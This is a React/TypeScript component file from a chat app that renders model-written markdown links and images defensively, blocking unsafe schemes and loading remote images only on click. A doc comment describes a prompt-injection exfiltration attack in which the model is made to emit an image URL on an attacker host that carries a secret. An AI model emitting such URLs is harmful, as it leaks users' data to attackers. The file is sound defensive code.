"use client";

import { type MouseEvent, type ReactNode, useState } from "react";
import { useT } from "@/lib/i18n/client";
import { RemoteImage } from "./remote-image";
import { safeImageUrl, safeLinkHref } from "./url";

/** A link that can only point to http(s) or mailto; any other target renders as its text. */
export function SafeLink({ href, title, children }: { href: string; title?: string | null; children: ReactNode }) {
  const t = useT();
  const safe = safeLinkHref(href);
  if (!safe) {
    return (
      <span className="underline decoration-zinc-400 decoration-dotted" title={t("markdown.link.blocked")}>
        {children}
      </span>
    );
  }
  return (
    <a
      href={safe}
      title={title ?? undefined}
      target="_blank"
      // nofollow: links were written by a model; noreferrer: the chat URL is nobody's business.
      rel="noopener noreferrer nofollow"
      className="font-medium text-violet-700 underline underline-offset-2 hover:text-violet-900 dark:text-violet-300 dark:hover:text-violet-100"
    >
      {children}
    </a>
  );
}

/**
 * An image from model output (or a remote file in an imported message). A prompt injection can
 * ask the model to emit `![](https://attacker/?q=<secret>)`, and merely loading that URL leaks the
 * secret, so nothing is fetched until the user clicks; then without a Referer, in a frame of its
 * own (remote-image.tsx). `data:` and other schemes (an SVG data URL can carry script) never
 * become images.
 */
export function SafeImage({ src, alt, title }: { src: string; alt: string; title?: string | null }) {
  const t = useT();
  const [state, setState] = useState<"idle" | "shown" | "failed">("idle");
  const url = safeImageUrl(src);
  if (!url) {
    return (
      <span className="rounded bg-zinc-100 px-1.5 py-0.5 text-sm text-zinc-600 dark:bg-zinc-800 dark:text-zinc-400">
        {t("markdown.image.blocked", { alt: alt || "—" })}
      </span>
    );
  }
  const host = url.host;
  if (state === "shown") {
    return <RemoteImage url={url.href} title={title || alt || host} onFailed={() => setState("failed")} />;
  }
  const load = (e: MouseEvent) => {
    // The image may sit inside a link: load it, do not follow the link.
    e.preventDefault();
    e.stopPropagation();
    setState("shown");
  };
  return (
    <span className="my-1 inline-flex max-w-full flex-col gap-1 align-middle">
      <button
        type="button"
        onClick={load}
        title={t("markdown.image.loadHint", { host })}
        className="inline-flex max-w-full items-center gap-2 rounded-md border border-zinc-300 border-dashed px-2.5 py-1 text-left text-sm text-zinc-700 hover:bg-zinc-50 dark:border-zinc-700 dark:text-zinc-300 dark:hover:bg-zinc-900"
      >
        <span aria-hidden="true">🖼</span>
        <span className="truncate">{t("markdown.image.load", { host })}</span>
      </button>
      {alt && <span className="text-xs text-zinc-500">{alt}</span>}
      {state === "failed" && (
        <span role="alert" className="text-xs text-red-600 dark:text-red-400">
          {t("markdown.image.failed", { host })}
        </span>
      )}
    </span>
  );
}
